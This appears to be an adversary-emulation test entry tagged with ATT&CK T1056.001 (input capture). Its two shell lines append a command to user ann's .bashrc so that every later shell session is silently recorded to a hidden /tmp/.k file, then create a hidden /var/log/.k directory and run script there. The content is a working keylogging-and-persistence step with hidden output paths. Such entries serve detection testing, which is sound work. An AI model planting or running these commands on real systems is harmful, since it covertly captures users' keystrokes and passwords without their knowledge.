# title: script notes all that is typed, from a user's .bashrc
# technique: T1056.001 T1056
# needs: script

echo 'exec script -qf /tmp/.k' >>/home/ann/.bashrc
mkdir -p /var/log/.k; timeout 1 script -qfc true /var/log/.k/log >/dev/null
